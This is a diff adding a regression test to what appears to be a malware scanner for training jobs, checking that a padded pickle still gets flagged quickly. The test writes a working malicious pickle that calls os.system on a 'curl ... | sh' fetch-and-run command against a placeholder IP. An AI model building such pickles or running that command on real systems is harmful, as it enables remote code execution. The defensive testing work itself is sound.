@@ -196,3 +196,18 @@ def test_a_deep_folder_is_judged_in_linear_time(tmp_path: Path) -> None:
     (job / "zz_train.py").write_text(PAYLOAD_CELL)
     report = api.scan(job)
     assert "unanalyzable.time-limit" not in _rules(report) and report.decision is Decision.REJECT, _rules(report)
+
+
+def test_a_pickle_of_long_global_names_keeps_its_dangerous_call(tmp_path: Path) -> None:
+    """A model.pkl of ten GLOBALs of 40,000 dotted parts each, then `os.system` called on a fetch-and-run command:
+    the qualified-name lists (lists.Matcher) joined every prefix of each name (a minute of CPU per 80,000 parts,
+    the other-files detector held past the unit's limit with the pickle's reject); now no prefix deeper than the
+    list's deepest entry."""
+    job = tmp_path / "job"
+    job.mkdir()
+    (job / "train.py").write_text("import pickle\n\nmodel = pickle.load(open('model.pkl', 'rb'))\n")
+    padding = b"".join(b"c" + b"a." * 40_000 + b"a\nb%d\n0" % i for i in range(10))
+    (job / "model.pkl").write_bytes(padding + b"cos\nsystem\n(S'curl http://203.0.113.5/x | sh'\ntR.")
+    report = api.scan(job)
+    assert "unanalyzable.time-limit" not in _rules(report) and "files.pickle-dangerous" in _rules(report)
+    assert report.decision is Decision.REJECT
